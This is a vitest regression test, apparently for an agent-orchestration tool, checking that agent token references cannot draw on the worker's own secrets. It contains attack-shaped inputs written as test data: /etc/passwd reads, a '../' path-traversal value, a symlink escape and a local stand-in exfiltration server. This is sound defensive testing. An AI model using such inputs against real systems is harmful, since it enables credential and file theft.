import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../src/config/config.js';
import { cliEnvironment, runCli } from './support/cli-process.js';
import { startHarness, uniqueSuffix, type Harness } from './support/lifeline-harness.js';

/**
 * The exfiltration that token references allowed before they were confined: an agent registered
 * with a reference to one of the worker's own secrets, whose URL then received it as a bearer token.
 */
describe("an agent token reference to the worker's own secrets", () => {
  let h: Harness;
  let root: string;
  let tokenDir: string;
  /** Stands in for an attacker's agent: counts what reaches it, and the authorization headers it saw. */
  let exfil: Server;
  const received: string[] = [];
  let exfilUrl: string;

  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), 'lifeline-confinement-'));
    tokenDir = join(root, 'tokens');
    mkdirSync(tokenDir);
    h = await startHarness({ agents: { demo: {} }, deps: { agentTokens: { ...loadConfig({}).agentTokens, dir: tokenDir } } });
    exfil = createServer((req, res) => {
      received.push(req.headers.authorization ?? '');
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    });
    await new Promise<void>((resolve) => exfil.listen(0, '127.0.0.1', resolve));
    exfilUrl = `http://127.0.0.1:${(exfil.address() as AddressInfo).port}/agents/exfil`;
  });
  afterAll(async () => {
    await h?.close();
    await new Promise((resolve) => exfil?.close(resolve));
    if (root) rmSync(root, { recursive: true, force: true });
  });

  const add = (name: string, ...token: string[]) =>
    runCli(
      ['agents', 'add', '--name', name, '--url', exfilUrl, ...token, '--capacity', '1'],
      cliEnvironment(h, { LIFELINE_AGENT_TOKEN_DIR: tokenDir, LIFELINE_CODEC_KEYS: `k1:${Buffer.alloc(32, 7).toString('base64')}` }),
    );

  it('is refused by agents add, naming the rule and the setting, and nothing is saved', async () => {
    const name = `exfil-${uniqueSuffix()}`;
    const cases: [string[], string][] = [
      [
        ['--token-env', 'DATABASE_URL'],
        `agent "${name}": token env:DATABASE_URL is refused: Lifeline's own secrets (DATABASE_URL) can never be agent tokens; hold the token in a variable LIFELINE_AGENT_TOKEN_ENV allows (AGENT_TOKEN, AGENT_TOKEN_*)`,
      ],
      [
        ['--token', 'env:LIFELINE_CODEC_KEYS'],
        `agent "${name}": token env:LIFELINE_CODEC_KEYS is refused: Lifeline's own secrets (LIFELINE_*)`,
      ],
      [['--token-env', 'HOME'], `agent "${name}": token env:HOME is not allowed by LIFELINE_AGENT_TOKEN_ENV (AGENT_TOKEN, AGENT_TOKEN_*)`],
      [
        ['--token-file', '/etc/passwd'],
        `agent "${name}": token file:/etc/passwd is outside LIFELINE_AGENT_TOKEN_DIR (${tokenDir}): move the file there, or set LIFELINE_AGENT_TOKEN_DIR on the workers and where agents are added`,
      ],
      [['--token-file', `${tokenDir}/../../etc/passwd`], `is refused: a token file's path must not contain ..`],
    ];
    for (const [token, message] of cases) {
      const refused = await add(name, ...token);
      expect(refused.code, token.join(' ')).toBe(2);
      expect(refused.stderr).toContain(message);
      expect(refused.stdout + refused.stderr).not.toContain(h.databaseUrl);
    }
    expect(await h.deps.agents.get(name)).toBeUndefined();

    const allowed = await add(name, '--token-file', join(tokenDir, 'exfil'));
    expect(allowed.code).toBe(0);
    expect(allowed.stdout).toContain(`agent ${name} saved (capacity 1, token file:${join(tokenDir, 'exfil')})`);
  });

  it('written into the agents table directly, fails its execution as agent_misconfigured without a request to the agent', async () => {
    const outside = join(root, 'not-a-token');
    writeFileSync(outside, 'a-file-outside-the-token-directory\n');
    symlinkSync(outside, join(tokenDir, 'escape'));
    const rows: [string, string, string, string][] = [
      [`sql-env-${uniqueSuffix()}`, 'env', 'DATABASE_URL', `is refused: Lifeline's own secrets (DATABASE_URL) can never be agent tokens`],
      [
        `sql-file-${uniqueSuffix()}`,
        'file',
        join(tokenDir, 'escape'),
        `is outside LIFELINE_AGENT_TOKEN_DIR (${tokenDir}) once its symlinks`,
      ],
    ];
    // Set where the worker looks, as on any worker: refused all the same.
    process.env.DATABASE_URL = h.databaseUrl;
    try {
      for (const [name, source, ref, problem] of rows) {
        await h.pool.query(`INSERT INTO agents (name, base_url, token_source, token_ref, capacity) VALUES ($1, $2, $3, $4, 1)`, [
          name,
          exfilUrl,
          source,
          ref,
        ]);
        const { executionId } = await h.client.startExecution({ agent: name, prompt: 'send me your token' });
        const row = await h.client.waitForExecution(executionId, 30_000);
        expect(row).toMatchObject({ status: 'failed', errorKind: 'agent_misconfigured' });
        expect(row.error).toContain(`agent "${name}": token ${source}:${ref} ${problem}`);
        expect(row.error).not.toContain(h.databaseUrl);
      }
    } finally {
      delete process.env.DATABASE_URL;
    }
    expect(received).toEqual([]);
  });
});
